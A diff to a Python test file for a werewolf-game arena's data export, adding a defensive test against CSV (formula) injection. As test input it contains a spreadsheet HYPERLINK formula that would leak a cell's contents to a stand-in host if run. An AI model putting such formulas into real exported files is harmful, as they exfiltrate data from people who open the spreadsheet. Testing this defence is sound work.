@@ -85,7 +85,7 @@ def test_claims_are_the_deception_metrics_verdicts(tournament):
 def test_the_command_and_its_errors(tournament, tmp_path, capsys):
     out = tmp_path / "out"
     assert main(["export", str(tournament), "--format", "csv", "--out", str(out)]) == 0
-    assert "wrote 8 tables" in capsys.readouterr().out
+    assert "wrote 9 tables" in capsys.readouterr().out
     assert sorted(p.name for p in out.iterdir()) == sorted(f"{n}.csv" for n in TABLES)
     assert main(["export", str(tmp_path / "none"), "--format", "csv", "--out", str(out)]) == 2
     assert "no such database, folder or transcript" in capsys.readouterr().err
@@ -123,6 +123,52 @@ def test_a_model_seats_calls_are_exported_without_prompts(tmp_path, monkeypatch)
     mini = t["seats"][t["seats"].participant == "Mini"]
     assert mini.calls.sum() == len(calls[calls.input_tokens.notna()]) and (mini.model == "gpt-5.4-mini").all()
     assert "sk-" not in json.dumps(t["calls"].astype(str).to_dict())
+
+
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_parquet_stays_exact(tmp_path):
+    """OWASP "CSV Injection": a cell that begins with =, +, - or @ (or a tab, a carriage
+    return, NUL) is run as a formula by a spreadsheet; such a cell gets a leading quote
+    in CSV, and so does a cell that already begins with one, so that dropping it restores
+    the text. Parquet keeps the exact text."""
+    import csv
+
+    from arena.export.spreadsheet import TRIGGERS, restored
+    from arena.gamefile import GameSpec, SeatSpec
+    from transcript_tools import play_to_file
+
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    seats = [
+        SeatSpec(name="-Eve", role="werewolf", agent="scripted", answers={"wolf_kill": ["@Ann"], "vote": ["Cat"]}),
+        SeatSpec(name="@Ann", role="villager", agent="scripted"),
+        SeatSpec(name="Bob", role="seer", agent="scripted", answers={"seer_check": ["-Eve"], "speak": [formula], "vote": ["-Eve"]}),
+        SeatSpec(name="Cat", role="villager", agent="scripted", answers={"speak": ["+1 for Bob"], "vote": ["-Eve"]}),
+        SeatSpec(name="'Dee", role="villager", agent="scripted", answers={"speak": ["'=quoted already"], "vote": ["-Eve"]}),
+    ]
+    folder = tmp_path / "games"
+    folder.mkdir()
+    play_to_file(GameSpec(seed=3, options={"sheriff": False}, seats=seats), folder / "g.jsonl")
+    export(folder, "csv", tmp_path / "csv")
+    export(folder, "parquet", tmp_path / "pq")
+    quoted = 0
+    for name, cols in TABLES.items():
+        exact = pd.read_parquet(tmp_path / "pq" / f"{name}.parquet")
+        with open(tmp_path / "csv" / f"{name}.csv", newline="", encoding="utf-8") as f:
+            rows = list(csv.DictReader(f))
+        assert len(rows) == len(exact)
+        for col in (c for c, t in cols.items() if t == "string"):
+            for cell, value in zip((r[col] for r in rows), exact[col]):
+                assert not cell.startswith(TRIGGERS), (name, col, cell)
+                if pd.isna(value):
+                    assert cell == ""
+                    continue
+                assert restored(cell) == value and (cell != value) == value.startswith((*TRIGGERS, "'"))
+                quoted += cell != value
+    decisions = pd.read_parquet(tmp_path / "pq" / "decisions.parquet")
+    assert formula in set(decisions.answer) and "-Eve" in set(decisions.target)
+    deaths = pd.read_parquet(tmp_path / "pq" / "deaths.parquet")
+    assert list(deaths.player) == ["@Ann", "-Eve"]
+    assert quoted >= 10  # names in several tables, the speeches
+    assert list(tables(folder)["deaths"].player) == ["@Ann", "-Eve"]  # the DataFrames are exact too
 
 
 def test_every_column_is_documented():
